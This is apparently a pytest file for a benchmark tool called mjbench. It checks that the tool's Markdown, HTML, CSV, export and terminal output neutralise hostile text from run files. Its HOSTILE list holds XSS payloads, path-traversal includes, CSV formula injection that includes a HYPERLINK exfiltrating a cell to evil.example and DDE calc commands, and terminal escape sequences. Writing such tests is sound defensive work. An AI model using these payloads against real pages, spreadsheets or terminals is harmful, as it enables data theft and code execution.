"""Texts of run files that would do harm if they were markup, code or a formula; they stay texts."""

import csv
import html
import html.parser
import io
import itertools
import json
from collections.abc import Callable, Sequence
from pathlib import Path
from xml.etree import ElementTree

import filled_records
import pytest
from click.testing import CliRunner
from filled_records import Text
from markdown_it import MarkdownIt

from mjbench.cli import cli
from mjbench.commands.show import exports, forms, reports
from mjbench.commands.show.kinds import RECORD_TYPES
from mjbench.results import html as html_page
from mjbench.results import markdown as markdown_page
from mjbench.results import runs

# Each begins with another letter, by which it is known in a page.
HOSTILE = (
    "a<script>alert(1)</script>",
    "b{download}`x <../../../../../../../../etc/hostname>`",
    "c` <script>alert(2)</script> `",
    "d```` {include} /etc/hostname",
    "e](javascript:alert(3)) [f](javascript:alert(4))",
    "![g](../../../../../../etc/hostname)",
    "<img src=x onerror=alert(5)>",
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3\t|h|\n|---|---|",
    "\x1b]52;c;aGk=\x07\x1b[2J",
    "\u202eevil\u2066\u200b\x00",
    "\n\n# heading\n\n```{include} /etc/hostname\n```\n",
    "4.1.0/../../../../../../../../tmp/owned",
    "' onmouseover='alert(6)' \" onclick=\"alert(7)",
    "&lt;script&gt;alert(8)&lt;/script&gt; &#60;b&#62;",
    "[`](method/none.md)`<script>alert(9)</script>",
    "\\`<script>alert(10)</script>\\` \\[i\\](method/none.md)\\<b>",
    "]]></script><!-- {{ 7*7 }} ${7*7} %{7*7} ::error::j",
)


def cycled(offset: int, kept: Sequence[str]) -> Text:
    """Return texts for fields: each key has one of the hostile ones, but those that are kept."""
    texts = itertools.cycle(HOSTILE[offset:] + HOSTILE[:offset])
    by_key = {key: key for key in kept}

    def text(key: str) -> str:
        if key not in by_key:
            by_key[key] = next(texts)
        return by_key[key]

    return text


def write(folder: Path, text_of: Callable[[str], Text]) -> list[Path]:
    """Write a run file of every kind, with texts by command and field; return their paths."""
    folder.mkdir(parents=True)
    files = []
    for command in filled_records.KINDS:
        file = folder / f"{command}.jsonl"
        lines = filled_records.lines(command, text_of(command))
        file.write_text("".join(f"{json.dumps(line)}\n" for line in lines))
        files.append(file)
    return files


@pytest.fixture(scope="module", params=(0, 7, 13))
def files(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    def text_of(command: str) -> Text:
        # a path that mjbench does not have is refused where it is looked up
        is_kept = request.param == 0
        return cycled(request.param, ("python_loop", "rollout") if is_kept else ("python_loop",))

    return write(tmp_path_factory.mktemp("hostile") / "runs", text_of)


def assert_printable(text: str) -> None:
    """Check that a text has no character that would change a terminal, but line breaks."""
    assert [c for c in text if not (c.isprintable() or c == "\n")] == []


def assert_no_markup(text: str, own_html: Sequence[str]) -> None:
    """Check that a page in Markdown has no markup but mjbench's own.

    Args:
      text: of the page.
      own_html: what the HTML of mjbench begins with.
    """
    pytest.importorskip("myst_parser")
    from myst_parser.config.main import MdParserConfig, read_topmatter
    from myst_parser.parsers.mdit import create_md_parser

    assert_printable(text)
    settings = (read_topmatter(text) or {}).get("myst", {})
    as_myst = create_md_parser(MdParserConfig(**settings), lambda md: MarkdownIt().renderer)
    as_github = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for parser in (as_myst, as_github):
        tokens = parser.parse(text)
        for token in itertools.chain(tokens, *(token.children or () for token in tokens)):
            assert token.type not in ("myst_role", "myst_target", "myst_line_comment"), token
            if token.type in ("html_block", "html_inline"):
                assert token.content.startswith(tuple(own_html)), token.content
            address = str(token.attrs.get("href") or token.attrs.get("src") or "")
            assert "javascript" not in address and "etc/" not in address, token
            if token.type == "fence":
                assert token.info.strip() in ("", "{toctree}"), token


def test_markdown_has_no_markup_of_theirs(files: list[Path]) -> None:
    for file in files:
        content = reports.build(reports.read([file]))
        page = "\n".join(markdown_page.render(content))
        assert_no_markup(page, ["<details>", "</details>", "<summary>", "</summary>"])


class _Tags(html.parser.HTMLParser):
    """The tags of a page, each with the names of its attributes."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, ...]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _ in attrs)))


def report_of(files: Sequence[Path]) -> str:
    pytest.importorskip("vl_convert")
    chosen = [file for file in files if file.stem not in ("step_ratio", "operation_ratio")]
    return html_page.render(reports.build(reports.read(chosen)))


@pytest.fixture(scope="module")
def known(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, ...]]:
    """Return the tags of a report whose texts are harmless."""
    harmless = write(tmp_path_factory.mktemp("harmless") / "runs", lambda command: str)
    return _Tags(report_of(harmless)).tags


def test_a_report_has_no_tags_of_theirs(
    files: list[Path], known: Sequence[tuple[str, ...]]
) -> None:
    page = report_of(files)
    assert_printable(page.replace("\t", ""))
    assert HOSTILE[0] in html.unescape(page)
    tags = _Tags(page).tags
    assert set(tags) <= set(known)
    assert tags.count(("script",)) == known.count(("script",))


def test_cells_of_csv_are_no_formulas(files: list[Path]) -> None:
    cells = 0
    for file in files:
        for row in csv.reader(io.StringIO(forms.of_runs(reports.read([file])).csv())):
            for cell in row:
                assert_printable(cell)
                assert not cell.startswith(tuple("=+@\t\r")), cell
                assert not cell.startswith("-") or float(cell) < 0
                cells += 1
    assert cells > len(files)


@pytest.mark.parametrize("form", ["--junit", "--github-benchmark"])
def test_documents_for_other_tools_parse(files: list[Path], form: str) -> None:
    for file in files:
        if file.stem in ("compare", "versions"):
            text = exports.BY_FLAG[form](runs.load(file, RECORD_TYPES))
            assert_printable(text)
            assert ElementTree.fromstring(text.encode()) if form == "--junit" else json.loads(text)


def test_a_terminal_gets_printable_lines(files: list[Path]) -> None:
    for file in files:
        done = CliRunner().invoke(cli, ["show", str(file), "--code"])
        assert done.exit_code == 0, done.stderr
        assert_printable(done.output)
